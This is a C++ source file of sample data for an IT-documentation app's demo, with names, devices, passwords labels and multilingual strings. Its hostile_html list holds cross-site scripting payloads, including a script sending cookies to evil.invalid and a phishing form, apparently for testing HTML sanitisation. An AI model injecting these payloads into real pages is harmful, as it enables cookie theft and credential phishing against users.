// SPDX-License-Identifier: Apache-2.0
#include "app/demo/sample_names.h"

namespace gluepot::app::sample {
namespace {

using Text = std::string_view;

constexpr Text kWords[] = {"Harbor",      "Northwind",    "Cedar Hill", "Bluestone",    "Juniper",   "Lakeside",
                           "Kestrel",     "Maple Street", "Ironbridge", "Redwood",      "Saltmarsh", "Windermere",
                           "Oak & Elm",   "Summit",       "Two Rivers", "Fairweather",  "Granite",   "Sparrow",
                           "Copperfield", "Larkspur",     "Meridian",   "Old Mill",     "Pinnacle",  "Quarry Lane",
                           "Thistle",     "Underhill",    "Vantage",    "Willow Creek", "Yarrow",    "Zephyr"};
constexpr Text kTrades[] = {"Dental",         "Legal LLP",     "Logistics",     "Veterinary Clinic",
                            "Accounting",     "Architects",    "Brewing Co.",   "Family Medicine",
                            "Primary School", "Credit Union",  "Construction",  "Insurance Brokers",
                            "Printworks",     "Hotel Group",   "Engineering",   "Foods",
                            "Physiotherapy",  "Estate Agents", "Charity Trust", "Manufacturing"};
constexpr Text kWorld[] = {"Бюро «Ромашка»",
                           "Ελληνικά Ναυπηγεία Α.Ε.",
                           "מרפאת הכרמל בע״מ",
                           "شركة النخيل للتجارة",
                           "株式会社さくら商事",
                           "上海明珠贸易有限公司",
                           "한빛소프트 주식회사",
                           "Café Zoë & Søn",
                           "Müller & Söhne GmbH",
                           "Señor Piñata 🪅 Events",
                           "Zażółć Gęślą Sp. z o.o.",
                           "Cafe\xCC\x81 Noe\xCC\x88l",
                           "บริษัท ช้างเผือก จำกัด",
                           "Łódź Optyka 👓",
                           "O'Brien \"The Fixer\" <Plumbing>",
                           "हिमालय चाय भंडार",
                           "AC",
                           "👩🏽‍🚀 Orbit Labs"};
constexpr Text kPeople[] = {"Amelia Hart",   "Tom Okafor",    "Priya Raman",  "Jürgen Weiß",
                            "Sofía Núñez",   "Дмитрий Орлов", "Ελένη Παππά",  "נועה לוי",
                            "ليلى حداد",     "佐藤 健",       "王 小明",      "Chloë O'Neill",
                            "Björn Åkesson", "Ngozi Eze",     "Mateusz Król", "Dana White"};
constexpr Text kPasswordNames[] = {"Domain Administrator",
                                   "Firewall admin",
                                   "Core switch",
                                   "Wi-Fi (guest)",
                                   "Wi-Fi (staff)",
                                   "iLO",
                                   "iDRAC",
                                   "Office 365 global admin",
                                   "Backup encryption key",
                                   "ESXi root",
                                   "NAS admin",
                                   "Printer web interface",
                                   "Line-of-business app",
                                   "Router",
                                   "SQL sa",
                                   "Local admin",
                                   "VPN pre-shared key",
                                   "Registrar",
                                   "Alarm panel",
                                   "Door controller",
                                   "Экспорт 1С",
                                   "Κεντρικός διακομιστής",
                                   "管理者アカウント",
                                   "שרת קבצים",
                                   "Camera DVR 🎥",
                                   "Bank portal"};
constexpr Text kUsers[] = {"administrator", "admin", "root",     "sa", "svc_backup", "itadmin", "manager",
                           "guest",         "ubnt",  "operator", ""};
constexpr Text kCategories[] = {"Administrative", "Application", "Cloud",         "Email / SaaS",
                                "Infrastructure", "Network",     "Personal",      "Remote access",
                                "Security",       "Vendor",      "Website / FTP", "Wireless"};
constexpr Text kTypes[] = {"Applications",
                           "Active Directory",
                           "Backup",
                           "Email",
                           "Internet / WAN",
                           "LAN",
                           "Licensing",
                           "Printing",
                           "Remote Access",
                           "Security Cameras",
                           "Site Summary",
                           "Virtualization",
                           "Voice / PBX",
                           "Wireless",
                           "Vendors",
                           "File Sharing",
                           "Firewalls",
                           "Domain Registrations",
                           "Power / UPS",
                           "Onboarding",
                           "Databases",
                           "Access Control",
                           "Disaster Recovery",
                           "Server Roles",
                           "Projects",
                           "Fragebögen ✍",
                           "Контракты",
                           "Storage Arrays",
                           "Monitoring",
                           "Mobile Devices"};
constexpr Text kDevices[] = {"DC01",     "FS02",       "SW-CORE-1",   "FW-EDGE", "AP-LOBBY", "NAS-BASEMENT",
                             "ESX-03",   "PRN-FLOOR2", "UPS-RACK-A",  "PBX1",    "CAM-DOCK", "LAPTOP-17",
                             "RDS-FARM", "SQL-PROD",   "BKP-OFFSITE", "VPN-GW"};
constexpr Text kTitles[] = {"New starter checklist explained",
                            "How to restore a mailbox",
                            "Site map and comms cabinet",
                            "After-hours contacts",
                            "VPN set-up for staff",
                            "Printer replacement",
                            "Disaster recovery plan",
                            "Firewall change log",
                            "Backup schedule",
                            "Phone system handbook",
                            "Wi-Fi survey",
                            "Licence renewals",
                            "Server room access",
                            "Как подключить принтер",
                            "Οδηγίες για το VPN",
                            "מדריך גיבוי",
                            "دليل الشبكة",
                            "ネットワーク構成図",
                            "网络拓扑说明",
                            "Résumé des incidents 🚨",
                            "Monthly patching",
                            "Line-of-business app upgrade"};
constexpr Text kFolders[] = {"How-to", "Network", "Procédures", "Archive 2019", "Projects", "Интернет"};
constexpr Text kChecklists[] = {"Onboard a user",         "Offboard a user", "New server",
                                "Quarterly review",       "Site visit",      "Firewall firmware",
                                "Приёмка рабочего места", "Laptop rebuild 💻"};
constexpr Text kTasks[] = {
    "Create the account", "Assign licences",  "Add to groups",        "Set up multi-factor sign-in",
    "Test sign-in",       "Label the device", "Update documentation", "Tell the customer",
    "Check the backup",   "Проверить почту"};
constexpr Text kParagraphs[] = {
    "The comms cabinet stands in the cleaner's cupboard behind reception; ask for the key.",
    "Always ring the site before a restart: the tills lose their basket when the switch goes down.",
    "Backups run at 22:00 and are copied off site by 04:00. A failed copy is retried once, then someone is paged.",
    "The internet line is a 1 Gbit/s leased line with a 4G fallback that covers the phones only.",
    "Guest wireless is isolated; its passphrase changes on the first Monday of each month.",
    "Маршрутизатор стоит в серверной на втором этаже, доступ по пропуску.",
    "النسخ الاحتياطي يعمل كل ليلة ويتم التحقق منه صباحا.",
    "サーバー室の鍵は受付で借りてください。作業後は必ず返却すること。",
    "Ο δρομολογητής βρίσκεται στο υπόγειο δίπλα στον πίνακα.",
    "The vendor wants the serial number, the contract number and a callback number, in this order."};
constexpr Text kHostile[] = {
    "<script>fetch('//evil.invalid/'+document.cookie)</script>",
    "<img src=x onerror=\"alert(1)\">",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<a href=\"javascript:alert(1)\">open the console</a>",
    "<a href=\"jAvAsCrIpT&colon;alert(1)\">really</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<form action=\"https://evil.invalid\"><input name=password></form>",
    "<div style=\"position:fixed;inset:0;background:url(//evil.invalid/x)\">overlay</div>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<base href=\"https://evil.invalid/\">",
    "<img srcset=\"//evil.invalid/a.png 1x\" alt=\"rack photo\">",
    "<b><i><u><s><b><i><u><s>unclosed"};

}  // namespace

std::span<const Text> organization_words() {
  return kWords;
}
std::span<const Text> organization_trades() {
  return kTrades;
}
std::span<const Text> organizations_of_the_world() {
  return kWorld;
}
std::span<const Text> people() {
  return kPeople;
}
std::span<const Text> password_names() {
  return kPasswordNames;
}
std::span<const Text> usernames() {
  return kUsers;
}
std::span<const Text> categories() {
  return kCategories;
}
std::span<const Text> asset_type_names() {
  return kTypes;
}
std::span<const Text> devices() {
  return kDevices;
}
std::span<const Text> document_titles() {
  return kTitles;
}
std::span<const Text> folder_names() {
  return kFolders;
}
std::span<const Text> checklist_names() {
  return kChecklists;
}
std::span<const Text> task_names() {
  return kTasks;
}
std::span<const Text> paragraphs() {
  return kParagraphs;
}
std::span<const Text> hostile_html() {
  return kHostile;
}

}  // namespace gluepot::app::sample
